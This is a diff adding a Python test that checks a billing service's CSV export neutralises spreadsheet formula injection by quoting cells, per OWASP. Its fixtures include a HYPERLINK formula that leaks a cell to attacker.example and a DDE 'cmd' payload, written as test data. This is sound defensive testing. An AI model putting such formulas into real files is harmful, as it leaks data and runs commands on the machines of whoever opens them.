@@ -282,6 +282,52 @@ async def test_the_csv_export_holds_the_company_rows_of_the_range_oldest_first(
     assert len(everything.text.splitlines()) == 1 + 3
 
 
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcmd",
+    "\r=1+1",
+]
+
+
+async def test_no_text_cell_of_the_csv_is_a_formula_to_a_spreadsheet(
+    billing: Stack, company: UUID
+) -> None:
+    """OWASP's rule: a text cell starting with =, +, -, @, a tab or a carriage return gets
+    a `'` before it. Ids, instants and numbers stay as they are."""
+    t0 = datetime(2025, 3, 1, 12, tzinfo=UTC)
+    harmless = ["draft-=-not-first", "'already quoted", "safe"]
+    await record(
+        billing,
+        *(
+            generated(company, at=t0 + timedelta(minutes=n), draft=draft, questions=n + 1)
+            for n, draft in enumerate(FORMULAS + harmless)
+        ),
+        generated(company, at=t0 + timedelta(hours=1), draft="model", model="=cmd|' /C calc'!A0"),
+    )
+
+    response = await billing.billing.get("/api/billing/usage.csv", headers=bearer(company))
+
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert [row["draftJobId"] for row in rows] == [
+        *(f"'{draft}" for draft in FORMULAS),
+        *harmless,
+        "model",
+    ]
+    assert [row["modelUsed"] for row in rows] == ["gpt-4o"] * 9 + ["'=cmd|' /C calc'!A0"]
+    assert [row["questionCount"] for row in rows] == [*(str(n + 1) for n in range(9)), "10"]
+    assert rows[0]["cost"] == "0.0100"
+    assert all(not row["cost"].startswith("'") for row in rows)
+    # The API itself keeps the ids as they were sent: only the spreadsheet's copy is quoted.
+    page = await billing.billing_json(company, "/api/billing/usage", limit=100)
+    assert sorted(item["draftJobId"] for item in page["items"]) == sorted(
+        [*FORMULAS, *harmless, "model"]
+    )
+
+
 async def test_usage_rows_carry_their_period_and_price(billing: Stack, company: UUID) -> None:
     await record(billing, generated(company, at=datetime(2025, 1, 31, 23, 59, tzinfo=UTC)))
     body = await billing.billing_json(company, "/api/billing/usage")
